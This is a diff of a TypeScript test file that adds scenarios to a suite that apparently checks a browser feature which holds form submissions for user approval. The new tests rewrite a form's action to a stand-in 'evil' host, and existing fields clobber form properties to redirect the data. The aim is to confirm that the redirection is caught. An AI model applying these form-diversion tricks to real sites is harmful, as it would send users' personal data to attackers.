@@ -1,4 +1,5 @@
 // Scenarios 20 to 30: forms that a script sends.
+import type { Attempt } from '#tests/coverage/attempt.ts';
 import { form, ID, idField, type Scenario } from '#tests/coverage/scenario.ts';
 
 const press = '<button type="button" id="press">Send</button>';
@@ -13,6 +14,31 @@ const onPress = (inside: string, code: string, attributes?: string) => `${form(i
 const FRESH = `const frame = document.createElement('iframe'); frame.hidden = true; document.body.append(frame);
 frame.contentWindow.HTMLFormElement.prototype.submit.call(form);`;
 
+/** While the question stands, the page gives its form another address, and a frame as the place where it opens. */
+async function diverted(attempt: Attempt): Promise<string> {
+  const { tab, mode, hosts } = attempt;
+  await tab.type('[name=idcard]', ID);
+  await tab.click('#press');
+  if (mode === 'off') return (await attempt.arrives()) ? 'sent' : 'not sent';
+  const first = await attempt.question();
+  await tab.evaluate(`Object.assign(document.forms[0], { target: 'sink', action: 'https://${hosts.evil}/take' })`);
+  if (mode === 'refused') await attempt.answer();
+  else {
+    await first.press('Send this once');
+    await (await attempt.questionAbout('evil')).press("Don't send");
+  }
+  await attempt.sleep(1500);
+  if (attempt.arrived().length > 0) return 'sent to another address';
+  return mode === 'refused' ? 'held, nothing sent' : 'asked anew, nothing sent';
+}
+
+const DIVERTED = {
+  value: ID,
+  run: diverted,
+  expected: { off: 'sent', refused: 'held, nothing sent', allowed: 'asked anew, nothing sent' },
+} as const;
+const SINK = '<iframe name="sink"></iframe>';
+
 /** Each field hides a property of the form that says where and how it goes. */
 const CLOBBERED = (evil: string) => `${idField}<input type="hidden" name="action" value="https://${evil}/">
 <input type="hidden" id="method" value="dialog"><input type="hidden" name="target" value="_top">`;
@@ -26,6 +52,12 @@ export const PROGRAMMATIC: readonly Scenario[] = [
     id: '20',
     what: 'form.submit() of a POST form.',
     pages: () => ({ 'site /': onPress(idField, 'form.submit();') }),
+  },
+  {
+    ...DIVERTED,
+    id: '20b',
+    what: 'The same; while it is held the page gives its form another address, in a frame: that is asked about anew.',
+    pages: () => ({ 'site /': `${SINK}${onPress(idField, 'form.submit();')}` }),
   },
   {
     ...plain,
@@ -64,6 +96,12 @@ export const PROGRAMMATIC: readonly Scenario[] = [
     id: '24',
     what: 'submit() taken from a frame made a moment ago.',
     pages: () => ({ 'site /': onPress(idField, FRESH) }),
+  },
+  {
+    ...DIVERTED,
+    id: '24b',
+    what: 'The same; while it is held the page gives its form another address, in a frame: that is asked about anew.',
+    pages: () => ({ 'site /': `${SINK}${onPress(idField, FRESH)}` }),
   },
   {
     ...plain,
